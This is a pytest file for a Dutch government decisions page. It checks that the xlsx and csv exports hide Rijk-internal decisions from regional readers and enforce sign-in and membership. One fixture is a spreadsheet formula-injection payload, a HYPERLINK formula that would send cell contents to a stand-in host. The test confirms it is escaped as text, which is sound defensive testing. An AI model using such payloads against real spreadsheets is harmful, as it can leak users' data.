"""The decisions page to take away (/besluiten.xlsx and .csv): what the page finds, for this reader only."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from openpyxl import load_workbook

from core.dates import today
from core.db import Audience
from core.extensions import db
from meetings.models import AgendaItemKind
from meetings.services import agenda, decisions
from tests.conftest import in_app, meeting_held, new_action, new_meeting, user

SEC = "secretariaat@ezk.test"
RIJK = "beleid@ezk.test"
REGIO = "economie@noord-brabant.test"
NON_MEMBER = "economie@gelderland.test"  # of the ROM overleg, not of BO-Brainport
MEMO = "27293059"


@dataclass(frozen=True)
class Exported:
    meeting: int
    shared_decision: str
    rijk_decisions: tuple[str, ...]
    rijk_action: str
    open_action: str
    formula: str


def make_rijk_internal(app: Any, clock: Any) -> Exported:
    """A published besluitenlijst of BO-Brainport with a shared decision, a decision on a Rijk-only
    item and a Rijk-only decision on a shared item (both naming the memo), a Rijk-only action and an
    openbaar action that follows from the Rijk-only decision. The clock is left after the meeting."""
    with in_app(app):
        sec = user(SEC)
        meeting = new_meeting(today() + timedelta(days=240), location="Den Haag")
        shared = agenda.add_agenda_item(
            sec, meeting, title="Exportpunt overleg", kind=AgendaItemKind.TER_BESLUITVORMING
        )
        internal = agenda.add_agenda_item(
            sec,
            meeting,
            title=f"Inzet volgens nota DGBI / {MEMO}",
            kind=AgendaItemKind.TER_BESPREKING,
            audience=Audience.RIJK,
        )
        db.session.flush()
        agenda.publish_agenda(sec, meeting)
        meeting_held(clock, meeting)
        formula = '=HYPERLINK("https://example.test/?x="&A1;"klik")'
        shared_text = "Het overleg stemt in met de exportproef."
        decisions.add_decision(sec, shared, text=shared_text)
        decisions.add_decision(sec, shared, text=formula)
        hidden_on_shared = decisions.add_decision(
            sec, shared, text=f"Rijk-intern: inzet conform nota {MEMO}.", audience=Audience.RIJK
        )
        on_internal = decisions.add_decision(sec, internal, text=f"De Rijksinzet volgt nota DGBI / {MEMO}.")
        db.session.flush()
        decisions.publish_besluitenlijst(sec, meeting, comments_deadline=today() + timedelta(days=10))
        rijk_action = f"Nota DGBI / {MEMO} uitwerken"
        new_action(title=rijk_action, owner_organisation_id=sec.organisation_id, audience=Audience.RIJK)
        open_action = "Exportactie bij een Rijk-intern besluit"
        new_action(
            title=open_action,
            owner_organisation_id=user(REGIO).organisation_id,
            due_date=today() + timedelta(days=21),
            decision=on_internal,
            audience=Audience.OPENBAAR,
        )
        return Exported(
            meeting=meeting.id,
            shared_decision=shared_text,
            rijk_decisions=(hidden_on_shared.text, on_internal.text),
            rijk_action=rijk_action,
            open_action=open_action,
            formula=formula,
        )


@pytest.fixture
def exported(app: Any, clock: Any) -> Exported:
    return make_rijk_internal(app, clock)


def xlsx_rows(data: bytes) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(data))
    return list(book.worksheets[0].iter_rows(values_only=True))


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), "Dutch Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_decisions_export_holds_what_the_page_shows_the_reader(clients, exported):
    regio = clients(REGIO)
    page = regio.get(f"/besluiten?meeting={exported.meeting}").get_data(as_text=True)
    response = regio.get(f"/besluiten.xlsx?meeting={exported.meeting}")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = xlsx_rows(response.data)
    assert header[:3] == ("Besluit", "Tekst", "Agendapunt")
    assert len(rows) == 2  # the shared decision and the formula, nothing Rijk-internal
    for number, _text, item, *_rest in rows:
        assert f"<strong>{number}</strong>" in page  # numbered as the page numbers them for this reader
        assert item == "1. Exportpunt overleg"
    assert rows[0][1] == exported.shared_decision
    assert rows[0][6] == "BO-Brainport"
    assert rows[0][7] == "ter commentaar"

    as_csv = csv_rows(regio.get(f"/besluiten.csv?meeting={exported.meeting}").data)
    assert as_csv[0][:3] == ["Besluit", "Tekst", "Agendapunt"]
    assert [row[0] for row in as_csv[1:]] == [row[0] for row in rows]
    assert as_csv[1][5] == rows[0][5].strftime("%d-%m-%Y")  # a Dutch date, as Excel in Dutch reads it


def test_a_regio_reader_finds_nothing_rijk_internal_in_either_format(clients, exported):
    for fmt in ("xlsx", "csv"):
        rijk = clients(RIJK).get(f"/besluiten.{fmt}").data
        regio = clients(REGIO).get(f"/besluiten.{fmt}").data
        rijk_text = str(xlsx_rows(rijk)) if fmt == "xlsx" else rijk.decode("utf-8-sig")
        regio_text = str(xlsx_rows(regio)) if fmt == "xlsx" else regio.decode("utf-8-sig")
        # The Rijk sees them, so the regio export lacks them for its reader, not for want of data.
        assert all(text in rijk_text for text in exported.rijk_decisions)
        assert MEMO not in regio_text
        assert exported.shared_decision in regio_text


def test_the_export_counts_every_page_not_just_the_first(clients, exported):
    regio = clients(REGIO)
    page = regio.get("/besluiten").get_data(as_text=True)
    total = int(re.search(r'<p role="status">(\d+) besluit', page).group(1))
    assert len(xlsx_rows(regio.get("/besluiten.xlsx").data)) - 1 == total
    assert len(csv_rows(regio.get("/besluiten.csv").data)) - 1 == total


def test_the_page_links_its_exports_with_its_filters(clients, exported):
    page = clients(REGIO).get(f"/besluiten?meeting={exported.meeting}").get_data(as_text=True)
    assert re.search(rf'href="/besluiten\.xlsx\?[^"]*meeting={exported.meeting}', page)
    assert re.search(rf'href="/besluiten\.csv\?[^"]*meeting={exported.meeting}', page)


def test_a_non_member_exports_none_of_the_bodys_decisions(clients, exported):
    rows = xlsx_rows(clients(NON_MEMBER).get("/besluiten.xlsx").data)
    assert all(row[6] != "BO-Brainport" for row in rows[1:])
    # Filtering on a meeting one may not see is no way in: it is no choice, and the page says so.
    response = clients(NON_MEMBER).get(f"/besluiten.xlsx?meeting={exported.meeting}")
    assert response.status_code == 302
    page = clients(NON_MEMBER).get(response.headers["Location"]).get_data(as_text=True)
    assert 'id="meeting-fout"' in page
    assert "BO-Brainport" not in page.split('id="inhoud"', 1)[1].split("</form>", 1)[1]


def test_signed_out_the_export_asks_to_sign_in(client):
    response = client.get("/besluiten.csv")
    assert response.status_code == 302
    assert "/auth/login" in response.headers["Location"]


def test_a_decision_that_looks_like_a_formula_stays_text(clients, exported):
    sec = clients(SEC)
    book = load_workbook(io.BytesIO(sec.get(f"/besluiten.xlsx?meeting={exported.meeting}").data))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + exported.formula in [cell.value for cell in cells]
    fields = [f for row in csv_rows(sec.get(f"/besluiten.csv?meeting={exported.meeting}").data) for f in row]
    assert "'" + exported.formula in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@")]


def test_an_export_with_a_filter_that_is_no_choice_sends_the_reader_to_the_page_that_says_so(clients):
    response = clients("economie@noord-brabant.test").get("/besluiten.csv?theme=999999")
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/besluiten?theme=999999")
    page = clients("economie@noord-brabant.test").get("/besluiten?theme=999999")
    assert page.status_code in (200, 400)
    assert 'id="theme-fout"' in page.get_data(as_text=True)
